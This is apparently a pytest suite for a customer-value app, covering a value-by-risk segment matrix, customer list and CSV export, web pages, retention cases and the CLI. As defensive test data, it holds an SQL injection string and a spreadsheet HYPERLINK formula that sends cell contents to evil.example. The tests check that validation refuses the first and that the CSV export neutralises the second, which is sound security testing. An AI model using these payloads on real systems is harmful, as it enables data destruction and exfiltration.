"""Value × risk segments on a small table whose matrix is worked out by hand below, the list
of a cell and its CSV, the page, and the retention cases opened from it."""

from __future__ import annotations

import csv
import io
import json

import pyarrow as pa
import pytest
from typer.testing import CliRunner

from cxpilot.kernel.errors import PermissionDenied, ValidationError
from cxpilot.loop.models import CaseKind, CaseStatus, FollowUpCase
from cxpilot.value import segments
from cxpilot.warehouse.connection import warehouse
from cxpilot.warehouse.ingest import load_arrow
from tests.value.tables import write_churn_scores, write_customer_values

U = "\x1f"  # a person id of a record no resolution has seen: U + source + U + customer_id


def person(customer_id: str) -> str:
    return f"{U}shop{U}{customer_id}"


#: Ten valued customers, CLV 100, 90, …, 10 (so value tiers: C0, C1 high — the top 20 %; C2,
#: C3, C4 medium — the next 30 %; the rest low), and their probability alive (risk = 1 −
#: p_alive as the churn model scores them, but C5 at 0.6 and C8, which it did not score: lapsed, risk 1). C10 has no CLV.
#:
#:   C0 100 × 0.5  → high value, high risk (0.5 is the edge: high)     at risk 50
#:   C1  90 × 0.1  → high, low                                           9
#:   C2  80 × 0.8  → medium, high                                        64
#:   C3  70 × 0.2  → medium, medium (p_alive 0.8: 0.2 is the edge)      14
#:   C4  60 × 0.19 → medium, low                                        11.4
#:   C5  50 × 0.6  → low, high (the churn model's risk, not 1 − 0.9)    30
#:   C6  40 × 0.3  → low, medium                                        12
#:   C7  30 × 0    → low, low                                           0
#:   C8  20 × 1    → low, high (lapsed: the churn model did not score it) 20
#:   C9  10 × 0.25 → low, medium                                        2.5
VALUES = [
    ("C0", 100.0, 0.5, "retail"),
    ("C1", 90.0, 0.9, "retail"),
    ("C2", 80.0, 0.2, "retail"),
    ("C3", 70.0, 0.8, "retail"),
    ("C4", 60.0, 0.81, "retail"),
    ("C5", 50.0, 0.9, "pro"),
    ("C6", 40.0, 0.7, "pro"),
    ("C7", 30.0, 1.0, "pro"),
    ("C8", 20.0, 0.3, "pro"),
    ("C9", 10.0, 0.75, "pro"),
    ("C10", None, 0.5, "retail"),
]
#: (value, risk) → (customers, equity, CLV at risk), worked out by hand from the table above.
EXPECTED = {
    ("high", "high"): (1, 100.0, 50.0),
    ("high", "medium"): (0, 0.0, 0.0),
    ("high", "low"): (1, 90.0, 9.0),
    ("medium", "high"): (1, 80.0, 64.0),
    ("medium", "medium"): (1, 70.0, 14.0),
    ("medium", "low"): (1, 60.0, 11.4),
    ("low", "high"): (2, 70.0, 50.0),
    ("low", "medium"): (2, 50.0, 14.5),
    ("low", "low"): (1, 30.0, 0.0),
}


@pytest.fixture
def valued(db) -> None:
    write_customer_values(
        [{"customer": person(c), "clv": clv, "p_alive": p, "segment": s} for c, clv, p, s in VALUES]
    )
    # the model scores every customer (at 1 − p_alive, to keep the hand count short) but C5,
    # at 0.6, and C8, whom it did not score (lapsed: risk 1); and a customer it knows that
    # has no value (left out)
    scores = {person(c): round(1.0 - p, 12) for c, _, p, _ in VALUES if c not in ("C5", "C8")}
    write_churn_scores({**scores, person("C5"): 0.6, person("C99"): 0.9})


def matrix(**kwargs):
    with warehouse() as con:
        return segments.value_risk_matrix(con, **kwargs)


def listed(**kwargs):
    with warehouse() as con:
        return segments.cell_customers(con, **kwargs)


@pytest.mark.warehouse
def test_matrix_hand_checked(valued):
    m = matrix()
    assert [(c.value, c.risk) for c in m.cells][:3] == [
        ("high", "high"),
        ("high", "medium"),
        ("high", "low"),
    ]
    got = {(c.value, c.risk): (c.customers, c.equity, c.clv_at_risk) for c in m.cells}
    assert got.keys() == EXPECTED.keys()
    for key, (n, equity, at_risk) in EXPECTED.items():
        assert got[key][0] == n, key
        assert got[key][1] == pytest.approx(equity), key
        assert got[key][2] == pytest.approx(at_risk), key
    assert m.customers == 10 and m.unvalued == 1 and m.risk_from_model == 9
    assert m.equity == pytest.approx(550.0)
    assert m.clv_at_risk == pytest.approx(50 + 9 + 64 + 14 + 11.4 + 50 + 14.5)
    assert m.segments == ["pro", "retail"]
    body = m.as_dict()
    assert body["cells"][0] == {
        "value": "high",
        "risk": "high",
        "customers": 1,
        "equity": 100.0,
        "clv_at_risk": 50.0,
        "share_of_equity": round(100 / 550, 4),
    }


@pytest.mark.warehouse
def test_segment_filter_keeps_the_tiers_of_the_whole_base(valued):
    m = matrix(segment="pro")
    got = {(c.value, c.risk): c.customers for c in m.cells if c.customers}
    # C5..C9 are low value in the whole base: still low within their segment
    assert got == {("low", "high"): 2, ("low", "medium"): 2, ("low", "low"): 1}
    assert matrix(segment="retail").unvalued == 1


@pytest.mark.warehouse
def test_without_churn_scores_risk_is_one_minus_p_alive(valued):
    with warehouse() as con:
        con.drop_table("churn_scores")
    m = matrix()
    assert m.risk_from_model == 0
    assert m.cell("low", "high").customers == 1  # C5 is now at 1 − 0.9 = 0.1: low
    assert m.cell("low", "low").customers == 2


@pytest.mark.warehouse
def test_tier_edges_and_ties(db):
    # five customers: places 0, 0.2, 0.2 (a tie), 0.6, 0.8; with the cuts 0.2 and 0.5 the
    # tie shares the higher tier (medium) and the risks sit on the edges 0.5 and 0.2
    write_customer_values(
        [
            {"customer": "A", "clv": 50.0, "p_alive": 0.5},  # risk 0.5: high
            {"customer": "B", "clv": 40.0, "p_alive": 0.8},  # risk 0.2: medium
            {"customer": "C", "clv": 40.0, "p_alive": 0.81},  # risk 0.19: low
            {"customer": "D", "clv": 30.0, "p_alive": 0.51},  # risk 0.49: medium
            {"customer": "E", "clv": 0.0, "p_alive": 0.0},  # risk 1: high
        ]
    )
    got = {(c.value, c.risk): c.customers for c in matrix().cells if c.customers}
    assert got == {
        ("high", "high"): 1,
        ("medium", "medium"): 1,
        ("medium", "low"): 1,
        ("low", "medium"): 1,
        ("low", "high"): 1,
    }
    # other cuts: the top 40 % high (A, and the tie B, C), the rest medium up to 100 %
    cuts = segments.cuts_checked((0.4, 1.0), (0.9, 0.1))
    got = {(c.value, c.risk): c.customers for c in matrix(cuts=cuts).cells if c.customers}
    assert got == {("high", "medium"): 3, ("medium", "medium"): 1, ("medium", "high"): 1}


@pytest.mark.parametrize(
    ("value", "risk", "where"),
    [((0.5, 0.2), (0.5, 0.2), "--value-cuts"), ((0.2, 0.5), (0.2, 0.5), "--risk-cuts")],
)
def test_bad_cuts(value, risk, where):
    with pytest.raises(ValidationError) as found:
        segments.cuts_checked(value, risk)
    assert found.value.where == where


def test_no_customer_values_names_the_command(db):
    with pytest.raises(ValidationError) as found:
        matrix()
    assert found.value.where == "customer_value" and "cxpilot clv predict" in found.value.detail


@pytest.mark.warehouse
def test_cell_list_sorted_and_paged(valued):
    page = listed(value="low", risk="high")
    assert page.total == 2 and [r["customer"] for r in page.rows] == [person("C5"), person("C8")]
    assert page.rows[0]["risk_source"] == "churn_model" and page.rows[0]["risk"] == 0.6
    assert page.rows[1]["risk_source"] == "lapsed" and page.rows[1]["risk"] == pytest.approx(1.0)
    by_risk = listed(value="low", risk="high", sort="-risk")
    assert [r["customer"] for r in by_risk.rows] == [person("C8"), person("C5")]
    second = listed(value="low", risk="high", offset=1, limit=1)
    assert second.total == 2 and [r["customer"] for r in second.rows] == [person("C8")]
    assert list(page.rows[0]) == list(segments.LIST_COLUMNS)
    assert page.rows[0]["customer_key"] == "shop:C5"


@pytest.mark.parametrize(
    ("kwargs", "where"),
    [
        ({"value": "huge", "risk": "high"}, "value"),
        ({"value": "high", "risk": "'; drop table customer_value; --"}, "risk"),
        ({"value": "high", "risk": "high", "sort": "customer"}, "sort"),
        ({"value": "high", "risk": "high", "limit": 10**9}, "limit"),
        ({"value": "high", "risk": "high", "segment": "nobody's"}, "segment"),
    ],
)
def test_cell_list_bad_inputs(valued, kwargs, where):
    with pytest.raises(ValidationError) as found:
        listed(**kwargs)
    assert found.value.where == where


def test_hostile_segment_is_refused(valued, hostile):
    if not hostile.strip():  # no segment: all of them
        assert matrix(segment=hostile).customers == 10
        return
    with pytest.raises(ValidationError) as found:
        matrix(segment=hostile)
    assert found.value.where == "segment"
    assert matrix().customers == 10  # nothing changed


# --- pages


@pytest.fixture
def formula(db) -> str:
    """A customer whose segment is a spreadsheet formula, high value at high risk."""
    text = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    write_customer_values(
        [
            {"customer": person("C0"), "clv": 100.0, "p_alive": 0.1, "segment": text},
            {"customer": "-2+3", "clv": 50.0, "p_alive": 0.9, "segment": "pro"},
        ]
    )
    return text


def test_page_renders_matrix_list_and_chart(valued, client_as):
    page = client_as("analyst").get("/value/segments/")
    assert page.status_code == 200
    body = page.content.decode()
    assert 'data-cell="high-high"' in body and 'id="spec-value-risk"' in body
    # the chart's numbers beneath it: the high-value high-risk cell first
    numbers = body[body.index('id="table-value-risk-numbers"') :]
    assert (
        '<td class="number">1</td><td class="number">100</td><td class="number">50</td>'
        in (numbers[: numbers.index("</tr>", numbers.index("<tbody>")) + 5])
    )
    assert page.context["listed"].total == 1
    assert "Open the follow-up cases" not in body  # an analyst opens no case
    spec = page.context["spec"]
    assert spec["layer"][0]["mark"]["type"] == "rect"
    low = client_as("cx_lead", username="lead2").get(
        "/value/segments/?segment=pro&value=low&risk=medium&sort=-risk"
    )
    assert low.status_code == 200 and low.context["listed"].total == 2
    assert "Open the follow-up cases" in low.content.decode()


def test_page_names_the_segments_the_organisation_knows(valued, lead):
    from cxpilot.organisation.models import Segment

    Segment.objects.create(key="pro", name="Professionals & trade")
    body = lead.get("/value/segments/?segment=pro&value=low&risk=medium").content.decode()
    # the filter sends the key and shows the name; a segment the organisation does not
    # know (retail) is shown by its key
    assert '<option value="pro" selected>Professionals &amp; trade</option>' in body
    assert '<option value="retail">retail</option>' in body
    assert "<td>Professionals &amp; trade</td>" in body and "<td>pro</td>" not in body


def test_page_without_values_says_what_to_run(db, lead):
    page = lead.get("/value/segments/")
    assert page.status_code == 200 and "cxpilot clv predict" in page.content.decode()


def test_page_bad_inputs(valued, lead, hostile):
    assert lead.get("/value/segments/?value=huge").status_code == 400
    assert lead.get("/value/segments/?page=0").status_code == 400
    if not hostile.strip():
        return
    bad = lead.get("/value/segments/", {"segment": hostile[:200]})
    assert bad.status_code == 400 and "segment" in bad.context["problem"]


def test_viewer_gets_403(valued, viewer):
    assert viewer.get("/value/segments/").status_code == 403
    assert viewer.get("/value/segments/export.csv?value=high&risk=high").status_code == 403
    assert (
        viewer.post("/value/segments/cases/", {"value": "high", "risk": "high"}).status_code == 403
    )
    assert FollowUpCase.objects.count() == 0


def test_export_csv_cannot_run_formulas(formula, lead):
    export = lead.get("/value/segments/export.csv?value=high&risk=high")
    assert export.status_code == 200 and export["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(export.content.decode())))
    assert rows[0] == list(segments.LIST_COLUMNS)
    assert rows[1][:3] == [person("C0"), "shop:C0", "'" + formula]
    low = list(
        csv.reader(
            io.StringIO(lead.get("/value/segments/export.csv?value=low&risk=low").content.decode())
        )
    )
    assert low[1][:2] == ["'-2+3", "'-2+3"]  # not a plain number: a formula to a spreadsheet


def test_export_csv_rounds_money_to_the_cent(db, lead):
    write_customer_values(
        [{"customer": person("C0"), "clv": 4363.0199999999995, "p_alive": 0.4, "segment": "x"}]
    )
    export = lead.get("/value/segments/export.csv?value=high&risk=high")
    row = next(csv.DictReader(io.StringIO(export.content.decode())))
    assert row["clv"] == "4363.02"
    for column in ("clv", "clv_low", "clv_high", "revenue_12m"):
        assert len(row[column].partition(".")[2]) <= 2, (column, row[column])


def test_counts_have_thousands_separators(db, lead):
    write_customer_values(
        [
            {"customer": person(f"C{i}"), "clv": 1000.0 - i / 10, "p_alive": 0.1, "segment": "x"}
            for i in range(2000)
        ]
    )
    text = lead.get("/value/segments/?value=low&risk=high").content.decode()
    assert "1,000 customers" in text and "of 1,000" in text and "2,000" in text
    assert "1000 customers" not in text


def test_matrix_chart_fits_a_phone():
    big = segments.Matrix(
        cells=[segments.Cell(v, r, 3076, 1.0, 2.0) for v in segments.TIERS for r in segments.TIERS],
        cuts=segments.Cuts(),
        segment=None,
        unvalued=0,
        risk_from_model=0,
    )
    spec = segments.matrix_spec(big)
    text = next(layer for layer in spec["layer"] if layer["mark"]["type"] == "text")
    # the cells are labelled with their counts only, in a small font: a third of 375 px holds them
    assert text["mark"]["fontSize"] <= 11
    field = text["encoding"]["text"]["field"]
    assert {row[field] for row in spec["data"]["values"]} == {"3,076"}
    # the tooltip still says what the number is
    assert {row["label"] for row in spec["data"]["values"]} == {"3,076 customers"}


# --- retention cases


@pytest.fixture
def records(valued, org) -> None:
    """C0..C9 as customer records of the source "shop"; C0 and C2 answered about the
    website (the e-commerce department's), C2 later about the call centre (the service's)."""
    load_arrow(
        table="customers",
        data=pa.Table.from_pylist([{"source": "shop", "customer_id": f"C{i}"} for i in range(10)]),
    )
    import datetime as dt

    answers = [
        ("r0", "C0", "website", dt.datetime(2026, 5, 1)),
        ("r1", "C2", "website", dt.datetime(2026, 5, 1)),
        ("r2", "C2", "call_centre", dt.datetime(2026, 6, 1)),
    ]
    load_arrow(
        table="responses",
        data=pa.Table.from_pylist(
            [
                {
                    "response_id": r,
                    "customer_id": c,
                    "touchpoint": tp,
                    "timestamp": at,
                    "metric": "nps",
                    "score": 9,
                    "source": "shop",
                    "channel": "web",
                }
                for r, c, tp, at in answers
            ]
        ),
    )


@pytest.mark.warehouse
def test_cases_opened_once_routed_and_listed(records, make_user):
    lead = make_user("cx_lead")
    done = segments.segment_cases_open(actor=lead, value="high", risk="high")
    assert done.as_dict() == {"opened": 1, "customers": 1, "already_open": 0, "without_record": []}
    case = FollowUpCase.objects.get()
    assert (case.kind, case.reason, case.source, case.customer_id) == (
        CaseKind.RETENTION,
        "high value at high risk",
        "shop",
        "C0",
    )
    assert case.score is None and case.metric == "" and case.response_id == ""
    assert case.touchpoint == "website" and case.department.key == "ecommerce"
    assert case.routed_by == "owning_department"
    assert case.headline == "high value at high risk"
    # idempotent: a second click opens none
    again = segments.segment_cases_open(actor=lead, value="high", risk="high")
    assert again.opened == 0 and again.as_dict()["already_open"] == 1
    assert FollowUpCase.objects.count() == 1
    # the medium-value high-risk customer (C2) goes to the last touchpoint answered about,
    # for the reason of their own cell
    segments.segment_cases_open(actor=lead, value="medium", risk="high")
    c2 = FollowUpCase.objects.get(customer_id="C2")
    assert c2.touchpoint == "call_centre" and c2.department.key == "service"
    assert c2.reason == "medium value at high risk"
    # one open retention case per customer, whatever the reason
    other = segments.segment_cases_open(actor=lead, value="high", risk="high", reason="VIP call")
    assert other.opened == 0 and other.as_dict()["already_open"] == 1
    assert FollowUpCase.objects.filter(customer_id="C0").count() == 1
    # a closed case lets a new one open
    FollowUpCase.objects.filter(customer_id="C0").update(status=CaseStatus.CLOSED)
    assert segments.segment_cases_open(actor=lead, value="high", risk="high").opened == 1
    # a customer with no answer: no touchpoint, unrouted (the CX lead sees it)
    segments.segment_cases_open(actor=lead, value="low", risk="low")
    c7 = FollowUpCase.objects.get(customer_id="C7")
    assert c7.touchpoint == "" and c7.department is None and c7.routed_by == "unrouted"


def test_cases_for_checked_customers_only(records, make_user):
    lead = make_user("cx_lead")
    done = segments.segment_cases_open(
        actor=lead, value="low", risk="high", customers=[person("C8")]
    )
    assert done.opened == 1 and FollowUpCase.objects.get().customer_id == "C8"
    with pytest.raises(ValidationError) as found:
        segments.segment_cases_open(actor=lead, value="low", risk="high", customers=[person("C0")])
    assert found.value.where == "customers"
    assert FollowUpCase.objects.count() == 1


def test_cases_need_the_role(records, make_user):
    for role in ("analyst", "viewer", "department_owner"):
        with pytest.raises(PermissionDenied):
            segments.segment_cases_open(actor=make_user(role), value="high", risk="high")
    from cxpilot.loop.services import retention_cases_open

    with pytest.raises(PermissionDenied):
        retention_cases_open(
            actor=make_user("analyst", username="a2"), records=[("shop", "C0")], reason="x"
        )
    assert FollowUpCase.objects.count() == 0


@pytest.mark.parametrize("reason", ["", "   ", "x" * 201])
def test_cases_bad_reason(records, make_user, reason):
    with pytest.raises(ValidationError) as found:
        segments.segment_cases_open(
            actor=make_user("cx_lead"), value="high", risk="high", reason=reason
        )
    assert found.value.where == "reason" and FollowUpCase.objects.count() == 0


def test_case_of_a_resolved_person(records, make_user):
    """A person resolved from several records: the case goes on their first record."""
    write_customer_values(
        [{"customer": "PER-00000001", "clv": 100.0, "p_alive": 0.1, "segment": "retail"}]
    )
    with warehouse() as con:
        con.create_table(
            "customer_persons",
            pa.table(
                {
                    "source": ["shop", "crm"],
                    "customer_id": ["C4", "K1"],
                    "person_id": ["PER-00000001", "PER-00000001"],
                }
            ),
            overwrite=True,
        )
    load_arrow(
        table="customers", data=pa.Table.from_pylist([{"source": "crm", "customer_id": "K1"}])
    )
    done = segments.segment_cases_open(actor=make_user("cx_lead"), value="high", risk="high")
    assert done.opened == 1
    assert (FollowUpCase.objects.get().source, FollowUpCase.objects.get().customer_id) == (
        "crm",
        "K1",
    )


def test_page_opens_cases_and_links_to_them(records, lead, client_as):
    # the form is pre-filled with the chosen cell's reason
    page = lead.get("/value/segments/?value=low&risk=medium")
    assert 'value="low value at medium risk"' in page.content.decode()
    cell = {"value": "low", "risk": "medium", "reason": "low value at medium risk"}
    answer = lead.post("/value/segments/cases/", cell, follow=True)
    assert answer.status_code == 200
    body = answer.content.decode()
    assert "2 follow-up case(s) opened for 2 customer(s)" in body
    assert "/voc/cases/?kind=retention&amp;status=open" in body
    assert FollowUpCase.objects.filter(kind=CaseKind.RETENTION).count() == 2
    # another reason opens no second case for the same customers
    again = lead.post("/value/segments/cases/", {**cell, "reason": "call them"}, follow=True)
    assert (
        "0 follow-up case(s) opened for 2 customer(s) (2 already had one open)"
        in again.content.decode()
    )
    # the case pages, list, filter and export show such cases
    listed = lead.get("/voc/cases/?kind=retention")
    assert listed.status_code == 200 and listed.context["page"].paginator.count == 2
    assert cell["reason"] in listed.content.decode()
    assert lead.get("/voc/cases/?kind=answer").context["page"].paginator.count == 0
    assert lead.get("/voc/cases/?kind=bogus").status_code == 400
    assert lead.get("/voc/cases/?sort=score").status_code == 200
    case = FollowUpCase.objects.first()
    detail = lead.get(f"/voc/cases/{case.pk}/")
    assert detail.status_code == 200 and cell["reason"] in detail.content.decode()
    export = lead.get("/voc/cases/export.csv?kind=retention")
    rows = list(csv.DictReader(io.StringIO(export.content.decode())))
    assert len(rows) == 2 and {r["kind"] for r in rows} == {"retention"}
    assert {r["score"] for r in rows} == {""} and {r["reason"] for r in rows} == {cell["reason"]}
    # an analyst may see the page but opens nothing
    analyst = client_as("analyst")
    assert (
        analyst.post(
            "/value/segments/cases/", {"value": "high", "risk": "high", "reason": "x"}
        ).status_code
        == 403
    )
    assert FollowUpCase.objects.count() == 2


def test_page_refuses_a_bad_post(records, lead):
    bad = lead.post(
        "/value/segments/cases/", {"value": "huge", "risk": "high", "reason": "x"}, follow=True
    )
    assert bad.status_code == 200 and "Choose a cell" in bad.content.decode()
    # an empty reason, or one too long, is refused on the reason, like on the command line
    for reason, error in [
        ("", "Reason: say why these customers are followed up."),
        ("  ", "Reason: say why these customers are followed up."),
        ("x" * 5000, "Reason: at most 200 characters."),
    ]:
        refused = lead.post(
            "/value/segments/cases/", {"value": "high", "risk": "high", "reason": reason}
        )
        assert refused.status_code == 302 and "value=high" in refused["Location"]
        body = lead.get(refused["Location"]).content.decode()
        assert error in body and "Choose a cell" not in body, reason[:5]
    outside = lead.post(
        "/value/segments/cases/",
        {"value": "high", "risk": "high", "reason": "x", "customers": ["shop:C9"]},
        follow=True,
    )
    assert "not in this cell" in outside.content.decode()
    assert FollowUpCase.objects.count() == 0
    checked = lead.post(
        "/value/segments/cases/",
        {"value": "low", "risk": "medium", "reason": "x", "customers": ["shop:C9"]},
        follow=True,
    )
    assert "1 follow-up case(s) opened for 1 customer(s)" in checked.content.decode()
    assert FollowUpCase.objects.get().customer_id == "C9"


# --- command line


@pytest.mark.warehouse
def test_cli(records):
    from cxpilot.cli import app

    runner = CliRunner()
    found = runner.invoke(app, ["value", "segments", "--format", "json"])
    assert found.exit_code == 0, found.output
    body = json.loads(found.stdout)
    assert body["customers"] == 10 and body["cells"][0]["clv_at_risk"] == 50.0
    pro = runner.invoke(app, ["value", "segments", "--segment", "pro", "--format", "csv"])
    assert pro.exit_code == 0 and pro.stdout.splitlines()[0].startswith("value,risk,customers")
    listed = runner.invoke(
        app, ["value", "list", "--value", "low", "--risk", "high", "--format", "csv"]
    )
    assert listed.exit_code == 0
    assert [r["customer"] for r in csv.DictReader(io.StringIO(listed.stdout))] == [
        person("C5"),
        person("C8"),
    ]
    opened = runner.invoke(
        app,
        [
            "value",
            "cases",
            "--value",
            "high",
            "--risk",
            "high",
            "--reason",
            "call them",
            "--format",
            "json",
        ],
    )
    assert opened.exit_code == 0 and json.loads(opened.stdout)["opened"] == 1
    again = runner.invoke(app, ["value", "cases", "--reason", "other", "--format", "json"])
    assert json.loads(again.stdout)["opened"] == 0
    assert json.loads(again.stdout)["already_open"] == 1
    empty = runner.invoke(app, ["value", "cases", "--reason", " ", "--format", "json"])
    assert empty.exit_code == 2 and "reason" in empty.output
    for args, where in [
        (["value", "list", "--value", "huge"], "value"),
        (["value", "segments", "--segment", "nobody"], "segment"),
        (["value", "segments", "--value-cuts", "0.5,0.2"], "--value-cuts"),
        (["value", "segments", "--risk-cuts", "a,b"], "--risk-cuts"),
        (["value", "cases", "--by", "nobody"], "--by"),
    ]:
        bad = runner.invoke(app, args)
        assert bad.exit_code == 2 and where in bad.output, (args, bad.output)
    assert FollowUpCase.objects.count() == 1


def test_page_in_french_and_past_the_last_page(valued, lead):
    page = lead.get("/value/segments/?value=low&risk=high&page=9", HTTP_ACCEPT_LANGUAGE="fr")
    assert page.status_code == 200 and page.context["page"] == 1
    body = page.content.decode()
    assert "Valeur × risque" in body and "Ouvrir les dossiers de suivi" in body
    assert page.context["listed"].total == 2
